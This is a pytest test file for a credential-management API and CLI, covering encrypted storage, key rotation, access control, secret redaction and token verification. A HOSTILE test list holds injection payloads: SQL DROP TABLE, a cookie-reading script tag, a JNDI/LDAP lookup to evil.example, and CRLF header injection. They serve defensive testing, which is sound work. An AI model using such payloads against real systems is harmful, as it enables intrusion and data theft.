"""Service credentials: a user's own (set, status, delete, verify) and the platform's."""

from __future__ import annotations

import asyncio
import io
import json
import logging
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.fernet import Fernet
from sqlalchemy import select, text

from imputehub.accounts.vault import Vault, VaultError
from imputehub.cli.main import run
from imputehub.clock import FakeClock
from imputehub.db.models import Service, UserServiceCredential
from imputehub.domain.errors import TransientServiceError
from imputehub.runtime import Runtime
from tests.support.api import Actor
from tests.support.factories import make_service
from tests.support.verifying_connector import PlainConnector, VerifyingConnector

SECRET = "alice-own-michigan-token-Q7xZ"
OTHER = "bob-own-michigan-token-9KpW"
PLATFORM = "platform-michigan-token-M3vR"


@pytest.fixture
def connector(runtime: Runtime) -> VerifyingConnector:
    fake = VerifyingConnector()
    # Fakes of only what credentials need, not the whole Connector Protocol.
    connectors: dict[str, Any] = {"michigan": fake, "ga4gh_wes": PlainConnector()}
    runtime.connectors = connectors
    return fake


@pytest.fixture
async def service(runtime: Runtime, connector: VerifyingConnector) -> Service:
    return await make_service(runtime, slug="michigan")


def url(service: Service, suffix: str = "") -> str:
    return f"/api/v1/services/{service.id}/credential{suffix}"


async def put(
    client: httpx.AsyncClient, service: Service, actor: Actor, credential: Any, **params: str
) -> httpx.Response:
    return await client.put(
        url(service), json={"credential": credential}, headers=actor.headers, params=params
    )


async def stored_rows(runtime: Runtime) -> list[UserServiceCredential]:
    async with runtime.db.session() as session:
        return list(await session.scalars(select(UserServiceCredential)))


async def stored_service(runtime: Runtime, service_id: str) -> Service:
    async with runtime.db.session() as session:
        found = await session.get(Service, service_id)
        assert found is not None
        return found


# --- set, show, delete -----------------------------------------------------------------------


async def test_set_show_replace_and_delete_own_credential(
    client: httpx.AsyncClient, alice: Actor, service: Service, runtime: Runtime
) -> None:
    bodies: list[str] = []
    response = await client.get(url(service), headers=alice.headers)
    assert response.status_code == 200
    assert response.json()["set"] is False
    assert response.json()["last_four"] is None

    response = await put(client, service, alice, SECRET)
    assert response.status_code == 200, response.text
    bodies.append(response.text)
    status = response.json()
    assert status["set"] is True
    assert status["scope"] == "user"
    assert status["last_four"] == "Q7xZ"
    assert status["verified"] is None
    assert status["expires_soon"] is False
    assert "credential" not in status

    response = await client.get(url(service), headers=alice.headers)
    bodies.append(response.text)
    assert response.json()["set"] is True
    assert response.json()["last_four"] == "Q7xZ"
    # By slug as well as by id.
    response = await client.get("/api/v1/services/michigan/credential", headers=alice.headers)
    assert response.json()["last_four"] == "Q7xZ"

    response = await put(client, service, alice, SECRET + "-new1")
    assert response.json()["last_four"] == "new1"
    rows = await stored_rows(runtime)
    assert len(rows) == 1
    assert runtime.vault.decrypt(rows[0].credential_encrypted) == SECRET + "-new1"

    response = await client.delete(url(service), headers=alice.headers)
    assert response.status_code == 204
    assert await stored_rows(runtime) == []
    response = await client.get(url(service), headers=alice.headers)
    assert response.json()["set"] is False
    # Deleting again is not an error.
    response = await client.delete(url(service), headers=alice.headers)
    assert response.status_code == 204
    assert all(SECRET not in body for body in bodies)


async def test_short_credentials_show_no_last_four(
    client: httpx.AsyncClient, alice: Actor, service: Service
) -> None:
    # Letters no id, time or hex digest in the answer can hold, so a leak cannot hide.
    response = await put(client, service, alice, "pqrsw")
    assert response.status_code == 200
    assert response.json()["last_four"] is None
    assert "qrsw" not in response.text


async def test_credential_is_encrypted_at_rest(
    client: httpx.AsyncClient, alice: Actor, service: Service, runtime: Runtime
) -> None:
    await put(client, service, alice, SECRET)
    async with runtime.db.session() as session:
        raw = await session.scalar(
            text("SELECT credential_encrypted FROM user_service_credentials WHERE user_id = :u"),
            {"u": alice.id},
        )
        whole_row = (
            await session.execute(
                text("SELECT * FROM user_service_credentials WHERE user_id = :u"), {"u": alice.id}
            )
        ).one()
    assert raw is not None
    assert SECRET not in raw
    assert all(SECRET not in str(value) for value in whole_row)
    assert runtime.vault.decrypt(raw) == SECRET
    # Only the hub's keys open it.
    with pytest.raises(VaultError):
        Vault([Fernet.generate_key().decode()]).decrypt(raw)


async def test_key_rotation_keeps_old_credentials_readable(
    client: httpx.AsyncClient,
    alice: Actor,
    service: Service,
    runtime: Runtime,
    connector: VerifyingConnector,
) -> None:
    old_key, new_key = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    runtime.vault = Vault([old_key])
    await put(client, service, alice, SECRET)
    connector.tokens[SECRET] = None

    # The operator prepends a new key: what the old one sealed still decrypts.
    runtime.vault = Vault([new_key, old_key])
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.status_code == 200, response.text
    assert response.json()["verified"] is True
    assert connector.seen == [SECRET]

    # New credentials are sealed with the new key.
    await put(client, service, alice, OTHER)
    (row,) = await stored_rows(runtime)
    assert Vault([new_key]).decrypt(row.credential_encrypted) == OTHER


# --- who sees what -----------------------------------------------------------------------------


async def test_routes_need_a_login(client: httpx.AsyncClient, service: Service) -> None:
    for method in ("GET", "PUT", "DELETE"):
        response = await client.request(method, url(service), json={"credential": SECRET})
        assert response.status_code == 401, method
        assert response.headers["content-type"] == "application/problem+json"
    response = await client.post(url(service, "/verify"))
    assert response.status_code == 401
    response = await client.get(url(service), headers={"Authorization": "Bearer nonsense"})
    assert response.status_code == 401


async def test_users_see_and_change_only_their_own_credential(
    client: httpx.AsyncClient,
    alice: Actor,
    bob: Actor,
    service: Service,
    runtime: Runtime,
    connector: VerifyingConnector,
) -> None:
    await put(client, service, alice, SECRET)
    response = await client.get(url(service), headers=bob.headers)
    assert response.json()["set"] is False
    response = await client.post(url(service, "/verify"), headers=bob.headers)
    assert response.status_code == 409
    assert response.json()["code"] == "credential_not_set"
    assert connector.seen == []

    # Bob's own credential and his delete leave Alice's alone.
    await put(client, service, bob, OTHER)
    response = await client.delete(url(service), headers=bob.headers)
    assert response.status_code == 204
    response = await client.get(url(service), headers=alice.headers)
    assert response.json()["set"] is True
    assert response.json()["last_four"] == "Q7xZ"
    (row,) = await stored_rows(runtime)
    assert row.user_id == alice.id


async def test_unknown_and_inactive_services_are_not_found(
    client: httpx.AsyncClient, alice: Actor, runtime: Runtime, connector: VerifyingConnector
) -> None:
    retired = await make_service(runtime, slug="retired", is_active=False)
    for target in (retired.id, "no-such-service"):
        path = f"/api/v1/services/{target}/credential"
        for method in ("GET", "PUT", "DELETE"):
            response = await client.request(
                method, path, json={"credential": SECRET}, headers=alice.headers
            )
            assert response.status_code == 404, (target, method)
            assert response.json()["code"] == "not_found"
        response = await client.post(path + "/verify", headers=alice.headers)
        assert response.status_code == 404
    assert await stored_rows(runtime) == []


# --- bad input -------------------------------------------------------------------------------

BAD_BODIES = [
    pytest.param({}, id="missing"),
    pytest.param({"credential": ""}, id="empty"),
    pytest.param({"credential": "   "}, id="blank"),
    pytest.param({"credential": None}, id="null"),
    pytest.param({"credential": 12345}, id="number"),
    pytest.param({"credential": [SECRET]}, id="list"),
    pytest.param({"credential": SECRET, "user_id": "x"}, id="extra-field"),
    pytest.param({"credential": "x" * 4097}, id="oversized"),
    pytest.param({"credential": "é" * 2049}, id="oversized-in-bytes"),
    pytest.param({"credential": SECRET + "\n"}, id="line-break"),
    pytest.param({"credential": SECRET + "\x00"}, id="nul"),
    pytest.param([SECRET], id="not-an-object"),
]


@pytest.mark.parametrize("payload", BAD_BODIES)
async def test_bad_bodies_are_refused_without_echoing_the_secret(
    client: httpx.AsyncClient, alice: Actor, service: Service, runtime: Runtime, payload: Any
) -> None:
    response = await client.put(url(service), json=payload, headers=alice.headers)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["code"] == "invalid_input"
    assert SECRET not in response.text
    assert await stored_rows(runtime) == []


async def test_malformed_json_and_unpaired_surrogates_are_refused(
    client: httpx.AsyncClient, alice: Actor, service: Service, runtime: Runtime
) -> None:
    headers = {**alice.headers, "content-type": "application/json"}
    for raw in (b'{"credential": "' + SECRET.encode(), b'{"credential": "\\ud800abcdefgh"}'):
        response = await client.put(url(service), content=raw, headers=headers)
        assert response.status_code == 422, response.text
        assert SECRET not in response.text
    assert await stored_rows(runtime) == []


HOSTILE = [
    "'; DROP TABLE user_service_credentials; --",
    "<script>alert(document.cookie)</script>",
    "ünïcødé-🔑-tøkén-välüé",
    "${jndi:ldap://evil.example/a}",
    "%00%0d%0aSet-Cookie:%20x=y",
    '{"credential": "nested"}',
    "x" * 4096,
]


@pytest.mark.parametrize("credential", HOSTILE)
async def test_hostile_strings_are_stored_and_handed_over_exactly(
    client: httpx.AsyncClient,
    alice: Actor,
    service: Service,
    runtime: Runtime,
    connector: VerifyingConnector,
    credential: str,
) -> None:
    response = await put(client, service, alice, credential)
    assert response.status_code == 200, response.text
    connector.tokens[credential] = None
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.json()["verified"] is True
    assert connector.seen == [credential]
    (row,) = await stored_rows(runtime)
    assert runtime.vault.decrypt(row.credential_encrypted) == credential


# --- verification ----------------------------------------------------------------------------


async def test_verify_a_valid_token_without_expiry(
    client: httpx.AsyncClient,
    alice: Actor,
    service: Service,
    connector: VerifyingConnector,
    clock: FakeClock,
) -> None:
    connector.tokens[SECRET] = None
    await put(client, service, alice, SECRET)
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.status_code == 200, response.text
    status = response.json()
    assert status["verified"] is True
    assert status["message"] == "token accepted"
    assert status["expires_at"] is None
    assert status["expires_soon"] is False
    assert status["verified_at"] is not None
    assert connector.seen == [SECRET]
    # The status keeps the verdict; a new secret clears it.
    response = await client.get(url(service), headers=alice.headers)
    assert response.json()["verified"] is True
    response = await put(client, service, alice, OTHER)
    assert response.json()["verified"] is None
    assert response.json()["verified_at"] is None


@pytest.mark.parametrize("refuse_by", ["check", "raise"])
async def test_verify_an_invalid_token(
    client: httpx.AsyncClient,
    alice: Actor,
    service: Service,
    connector: VerifyingConnector,
    refuse_by: str,
) -> None:
    connector.refuse_by = refuse_by
    await put(client, service, alice, SECRET)
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.status_code == 200, response.text
    assert response.json()["verified"] is False
    assert response.json()["message"] == "the service rejected the token"
    response = await client.get(url(service), headers=alice.headers)
    assert response.json()["verified"] is False


async def test_tokens_expiring_within_a_week_are_flagged(
    client: httpx.AsyncClient,
    alice: Actor,
    service: Service,
    connector: VerifyingConnector,
    clock: FakeClock,
) -> None:
    connector.tokens[SECRET] = clock.now() + timedelta(days=3)
    connector.tokens[OTHER] = clock.now() + timedelta(days=7, hours=2)
    await put(client, service, alice, SECRET)
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.json()["verified"] is True
    assert response.json()["expires_soon"] is True

    await put(client, service, alice, OTHER)
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.json()["expires_soon"] is False
    # Time passes: three hours later the same token is within a week of its expiry.
    clock.advance(timedelta(hours=3).total_seconds())
    response = await client.get(url(service), headers=alice.headers)
    assert response.json()["expires_soon"] is True


async def test_a_service_type_that_cannot_verify_says_so(
    client: httpx.AsyncClient, alice: Actor, runtime: Runtime, connector: VerifyingConnector
) -> None:
    wes = await make_service(runtime, slug="wes", api_type="ga4gh_wes")
    response = await put(client, wes, alice, SECRET)
    response = await client.post(url(wes, "/verify"), headers=alice.headers)
    assert response.status_code == 200
    assert response.json()["verified"] is None
    assert response.json()["message"] == "this service type cannot verify credentials"


async def test_a_service_that_cannot_answer_now_changes_nothing(
    client: httpx.AsyncClient,
    alice: Actor,
    service: Service,
    connector: VerifyingConnector,
) -> None:
    connector.tokens[SECRET] = None
    await put(client, service, alice, SECRET)
    await client.post(url(service, "/verify"), headers=alice.headers)
    connector.error = TransientServiceError("the service is in maintenance", retry_after=60)
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.status_code == 503
    assert response.headers["retry-after"] == "60"
    assert "maintenance" in response.json()["detail"]
    response = await client.get(url(service), headers=alice.headers)
    assert response.json()["verified"] is True


async def test_a_service_echoing_the_token_has_it_cut_out(
    client: httpx.AsyncClient, alice: Actor, service: Service, connector: VerifyingConnector
) -> None:
    connector.echo = True
    await put(client, service, alice, SECRET)
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.json()["message"] == "the service rejected the token ([redacted])"
    assert SECRET not in response.text
    connector.refuse_by = "raise"
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert SECRET not in response.text
    connector.error = TransientServiceError(f"token {SECRET} hit the rate limit")
    response = await client.post(url(service, "/verify"), headers=alice.headers)
    assert response.status_code == 503
    assert SECRET not in response.text


# --- the platform credential -----------------------------------------------------------------


async def test_admins_verify_the_platform_credential(
    client: httpx.AsyncClient,
    admin: Actor,
    alice: Actor,
    service: Service,
    runtime: Runtime,
    connector: VerifyingConnector,
    clock: FakeClock,
) -> None:
    response = await client.post(
        url(service, "/verify"), params={"scope": "platform"}, headers=admin.headers
    )
    assert response.status_code == 409
    response = await put(client, service, admin, PLATFORM, scope="platform")
    assert response.status_code == 200, response.text
    assert response.json()["scope"] == "platform"
    assert response.json()["set"] is True
    connector.tokens[PLATFORM] = clock.now() + timedelta(days=2)

    response = await client.post(
        url(service, "/verify"), params={"scope": "platform"}, headers=admin.headers
    )
    assert response.status_code == 200, response.text
    assert response.json()["verified"] is True
    assert response.json()["expires_soon"] is True
    assert PLATFORM not in response.text
    stored = await stored_service(runtime, service.id)
    assert stored.credential_verified is True
    assert stored.credential_verified_at == clock.now()
    assert stored.credential_expires_at == clock.now() + timedelta(days=2)
    assert connector.seen == [PLATFORM]
    response = await client.get(url(service), params={"scope": "platform"}, headers=admin.headers)
    assert response.json()["verified"] is True
    # A new platform credential through PATCH /services forgets the old verdict.
    response = await client.patch(
        f"/api/v1/services/{service.id}",
        json={"credential": "another-platform-token-4321"},
        headers=admin.headers,
    )
    assert response.status_code == 200, response.text
    response = await client.get(url(service), params={"scope": "platform"}, headers=admin.headers)
    assert response.json()["verified"] is None
    assert response.json()["expires_at"] is None
    # The admin's own credential is a separate thing.
    response = await client.get(url(service), headers=admin.headers)
    assert response.json()["set"] is False

    # Users may neither see nor touch the platform credential.
    for method in ("GET", "PUT", "DELETE"):
        response = await client.request(
            method,
            url(service),
            params={"scope": "platform"},
            json={"credential": SECRET},
            headers=alice.headers,
        )
        assert response.status_code == 403, method
    response = await client.post(
        url(service, "/verify"), params={"scope": "platform"}, headers=alice.headers
    )
    assert response.status_code == 403

    response = await client.delete(
        url(service), params={"scope": "platform"}, headers=admin.headers
    )
    assert response.status_code == 204
    stored = await stored_service(runtime, service.id)
    assert stored.credential_encrypted is None
    assert stored.credential_verified is None


async def test_unknown_scope_is_refused(
    client: httpx.AsyncClient, alice: Actor, service: Service
) -> None:
    response = await client.get(url(service), params={"scope": "everyone"}, headers=alice.headers)
    assert response.status_code == 422


# --- nothing in the logs ---------------------------------------------------------------------


async def test_secrets_never_reach_the_logs(
    client: httpx.AsyncClient,
    admin: Actor,
    alice: Actor,
    service: Service,
    connector: VerifyingConnector,
    caplog: pytest.LogCaptureFixture,
) -> None:
    connector.echo = True
    connector.tokens[PLATFORM] = None
    with caplog.at_level(logging.DEBUG):
        await put(client, service, alice, SECRET)
        await client.get(url(service), headers=alice.headers)
        await client.post(url(service, "/verify"), headers=alice.headers)
        connector.refuse_by = "raise"
        await client.post(url(service, "/verify"), headers=alice.headers)
        connector.error = TransientServiceError(f"token {SECRET} hit the rate limit")
        await client.post(url(service, "/verify"), headers=alice.headers)
        connector.error = None
        await client.put(url(service), json={"credential": SECRET + "\n"}, headers=alice.headers)
        await client.delete(url(service), headers=alice.headers)
        await put(client, service, admin, PLATFORM, scope="platform")
        await client.post(
            url(service, "/verify"), params={"scope": "platform"}, headers=admin.headers
        )
    assert caplog.records, "the routes log what they do"
    actions = {getattr(record, "action", None) for record in caplog.records}
    assert {"user_credential_set", "credential_verified", "user_credential_deleted"} <= actions
    for record in caplog.records:
        dumped = repr(record.__dict__) + record.getMessage()
        assert SECRET not in dumped
        assert PLATFORM not in dumped


# --- the command line, against the real API on loopback --------------------------------------


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hub_url: str) -> None:
    monkeypatch.setenv("IMPUTEHUB_CLIENT_CONFIG_DIR", str(tmp_path / "client"))
    monkeypatch.setenv("IMPUTEHUB_URL", hub_url)


async def cli(
    actor: Actor, args: list[str], monkeypatch: pytest.MonkeyPatch, stdin: str = ""
) -> int:
    monkeypatch.setenv("IMPUTEHUB_TOKEN", actor.headers["Authorization"].removeprefix("Bearer "))
    monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
    # In a thread: the CLI is synchronous and the server runs in this event loop.
    return await asyncio.to_thread(run, ["services", "credential", *args])


@pytest.mark.usefixtures("cli_env")
async def test_cli_sets_shows_verifies_and_deletes(
    admin: Actor,
    alice: Actor,
    service: Service,
    runtime: Runtime,
    connector: VerifyingConnector,
    clock: FakeClock,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    connector.tokens[SECRET] = clock.now() + timedelta(days=2)
    code = await cli(alice, ["set", "michigan", "--credential-stdin"], monkeypatch, SECRET + "\n")
    out, err = capsys.readouterr()
    assert code == 0, err
    assert out == "michigan (user): set (ends in Q7xZ), not verified\n"
    (row,) = await stored_rows(runtime)
    assert runtime.vault.decrypt(row.credential_encrypted) == SECRET

    code = await cli(alice, ["verify", "michigan"], monkeypatch)
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "verified: valid" in out
    assert "token accepted" in out
    assert "expires within 7 days" in err

    code = await cli(alice, ["show", "michigan", "--json"], monkeypatch)
    out, _ = capsys.readouterr()
    shown = json.loads(out)
    assert shown["verified"] is True
    assert shown["expires_soon"] is True

    # A refused token: exit status 1 and the service's word for it.
    await cli(alice, ["set", "michigan", "--credential-stdin"], monkeypatch, OTHER + "\n")
    code = await cli(alice, ["verify", "michigan"], monkeypatch)
    out, _ = capsys.readouterr()
    assert code == 1
    assert "REJECTED" in out
    assert "the service rejected the token" in out

    code = await cli(alice, ["delete", "michigan"], monkeypatch)
    out, _ = capsys.readouterr()
    assert code == 0
    assert await stored_rows(runtime) == []
    code = await cli(alice, ["show", "michigan"], monkeypatch)
    out, _ = capsys.readouterr()
    assert out == "michigan (user): no credential set\n"

    # Without a terminal and without --credential-stdin nothing is sent.
    code = await cli(alice, ["set", "michigan"], monkeypatch, SECRET + "\n")
    out, err = capsys.readouterr()
    assert code == 1
    assert "--credential-stdin" in err
    assert await stored_rows(runtime) == []

    # The platform credential: admins only.
    code = await cli(alice, ["show", "michigan", "--platform"], monkeypatch)
    _, err = capsys.readouterr()
    assert code == 1
    assert err.startswith("error: ")
    connector.tokens[PLATFORM] = None
    code = await cli(
        admin, ["set", "michigan", "--platform", "--credential-stdin"], monkeypatch, PLATFORM
    )
    assert code == 0
    code = await cli(admin, ["verify", "michigan", "--platform"], monkeypatch)
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "michigan (platform): set, verified: valid" in out
    assert (await stored_service(runtime, service.id)).credential_verified is True


@pytest.mark.usefixtures("cli_env")
async def test_cli_registers_a_service_with_its_token_in_one_command(
    admin: Actor,
    runtime: Runtime,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("IMPUTEHUB_TOKEN", admin.headers["Authorization"].removeprefix("Bearer "))
    add = ["services", "add", "--json", "--name", "TOPMed", "--type", "michigan"]
    add += ["--base-url", "https://imputation.biodatacatalyst.nhlbi.nih.gov"]

    code = await asyncio.to_thread(run, [*add, "--token", PLATFORM])
    out, err = capsys.readouterr()

    assert code == 0, err
    added = json.loads(out)
    assert added["api_type"] == "michigan"
    assert added["credential_set"] is True
    assert PLATFORM not in out
    assert "visible in shell history" in err
    stored = await stored_service(runtime, added["id"])
    assert runtime.vault.decrypt(stored.credential_encrypted) == PLATFORM

    # Given twice, or empty: refused before anything is sent.
    code = await asyncio.to_thread(run, [*add, "--slug", "x", "--token", "t", "--credential-stdin"])
    _, err = capsys.readouterr()
    assert code == 1
    assert "not both" in err
    code = await asyncio.to_thread(run, [*add, "--slug", "y", "--token", " "])
    _, err = capsys.readouterr()
    assert code == 1
    assert "must not be empty" in err
    async with runtime.db.session() as session:
        slugs = set(await session.scalars(select(Service.slug)))
    assert not {"x", "y"} & slugs
